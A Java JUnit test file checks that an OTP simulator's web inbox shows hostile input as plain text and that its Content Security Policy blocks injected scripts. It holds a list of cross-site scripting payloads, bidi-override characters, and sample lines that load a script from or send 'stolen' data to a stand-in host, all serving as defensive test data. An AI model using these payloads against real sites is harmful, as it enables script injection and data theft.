package dev.nywila.otp.simulator.browser;

import static dev.nywila.otp.simulator.browser.Application.NUMBER;
import static org.assertj.core.api.Assertions.assertThat;

import dev.nywila.otp.simulator.OtpSimulator;
import dev.nywila.otp.testing.Json;
import java.net.URI;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.ExtendWith;

/** What comes from the wire is text and nothing else; and were it ever more, the browser would still refuse to run it. */
@ExtendWith(Browser.class)
@Timeout(value = 60, unit = TimeUnit.SECONDS)
class HostileTextTest {

    private static final List<String> HOSTILE = List.of(
            "<script>window.hacked = 1</script>",
            "<img src=x onerror='window.hacked = 1'>",
            "\"><svg onload=window.hacked=1>",
            "' onfocus='window.hacked=1' autofocus='",
            "</pre></li></ol><iframe srcdoc='<script>parent.hacked=1</script>'>",
            "javascript:window.hacked=1",
            "\u202e+255713507067\u2066",
            "A".repeat(3000));

    /** Each would run, or carry something off, in a page without a policy; and what of the policy forbids it. */
    private static final Map<String, String> INJECTIONS = Map.of(
            "$('main').append(Object.assign(document.createElement('script'), { text: 'window.hacked = 1' }))",
            "script-src-elem",
            "$('main').insertAdjacentHTML('beforeend', '<b id=x onclick=\"window.hacked=1\">x</b>') ?? $('#x').click()",
            "script-src-attr",
            "$('main').insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.hacked=1\">')",
            "script-src-attr",
            "$('main').append(Object.assign(document.createElement('script'), { src: 'http://foreign.test:9/x.js' }))",
            "script-src-elem",
            "setTimeout('window.hacked = 1', 0)",
            "script-src",
            "$('main').append(Object.assign(document.createElement('iframe'), { src: 'javascript:parent.hacked=1' }))",
            "script-src-elem",
            "fetch('http://foreign.test:9/?stolen=1').catch(() => {})",
            "connect-src",
            "new Image().src = 'http://foreign.test:9/?stolen=1'",
            "img-src",
            "$('main').append(Object.assign(document.createElement('div'), { innerHTML: '<p style=\"color:red\">' }))",
            "style-src-attr");

    private static final String MARKUP = "main :is(script, img, svg, iframe, a, style, link, object)";

    private final OtpSimulator simulator = OtpSimulator.start();
    private final Application application = new Application(simulator);

    @AfterEach
    void close() {
        simulator.close();
    }

    private static void hasNoEffect(Tab tab) {
        assertThat(tab.count(MARKUP)).isZero();
        assertThat(tab.evaluate("window.hacked === undefined").value()).isEqualTo(true);
        assertThat(tab.evaluate("[document.documentElement, ...$$('.message, summary, .wire')]"
                                + ".every(e => e.scrollWidth <= e.clientWidth)")
                        .value())
                .as("fits the width")
                .isEqualTo(true);
    }

    private static Map<String, Object> message(int id, String hostile) {
        Map<String, Object> message = new HashMap<>(Map.of("id", id, "attemptsUsed", 0, "attemptsAllowed", 3));
        for (String field : List.of("recipient", "dialect", "channel", "text", "code", "reference", "state")) {
            message.put(field, hostile);
        }
        message.put("sentAt", "2026-01-01T00:00:00Z");
        message.put("expiresAt", "2036-01-01T00:00:00Z");
        return message;
    }

    @Test
    void hostileMessagesAreShownAsTheyAre(Tab tab) {
        int last = HOSTILE.size();
        tab.answer(
                "/inbox",
                IntStream.range(0, last)
                        .mapToObj(i -> message(last - i, HOSTILE.get(i)))
                        .toList());
        tab.openPage(simulator.baseUrl());

        for (String part : List.of(".message h3", ".message .tag", ".message .digits", ".message .text")) {
            assertThat(tab.evaluate("$$('" + part + "').map(e => e.textContent)")
                            .list())
                    .extracting(Json::text)
                    .isEqualTo(HOSTILE);
        }
        assertThat(tab.evaluate("$$('.message h3 > *, .digits, .message .text')"
                                + ".every(e => getComputedStyle(e).unicodeBidi === 'isolate')")
                        .value())
                .as("turns nothing beside it")
                .isEqualTo(true);
        hasNoEffect(tab);
    }

    @Test
    void hostileRequestsAreShownAsTheyCameWithWhatIsInvisibleSpeltOut(Tab tab) throws Exception {
        for (String hostile : HOSTILE) {
            application.call("POST", "/v1/request", hostile);
        }
        tab.openPage(simulator.baseUrl());

        tab.evaluate("$$('summary').forEach(e => e.click())");
        tab.until("$$('.wire').length === " + HOSTILE.size());

        assertThat(tab.evaluate("$$('.wire figure:first-child pre').map(e => e.textContent).reverse()")
                        .list())
                .extracting(Json::text)
                .isEqualTo(HOSTILE.stream()
                        .map(hostile -> hostile.replace("\u202e", "\\u202e").replace("\u2066", "\\u2066"))
                        .toList());
        hasNoEffect(tab);
    }

    @Test
    void hostileTextInTheAddressIsInert(Tab tab) throws Exception {
        application.send(NUMBER);

        tab.openPage(URI.create(simulator.baseUrl() + "/?to=%3Cimg%20src%3Dx%20onerror%3D'window.hacked%3D1'%3E8"));
        tab.until("text('#inbox-empty') === 'No message to a number with 18.'");

        hasNoEffect(tab);
    }

    @Test
    void anInjectedScriptIsBlocked(Tab tab) {
        tab.expect("Content Security Policy");
        tab.openPage(simulator.baseUrl());
        tab.evaluate("window.blocked = []");
        tab.evaluate("addEventListener('securitypolicyviolation', e =>"
                + " document.documentElement.dataset.blocked = blocked.push(e.effectiveDirective))");

        INJECTIONS.forEach((injection, directive) -> {
            tab.evaluate("void (blocked.length = 0, " + injection + ")");
            tab.until("blocked.length > 0");
            assertThat(tab.evaluate("blocked[0]").text()).as(injection).isEqualTo(directive);
            assertThat(tab.evaluate("window.hacked === undefined").value())
                    .as(injection)
                    .isEqualTo(true);
        });
    }
}
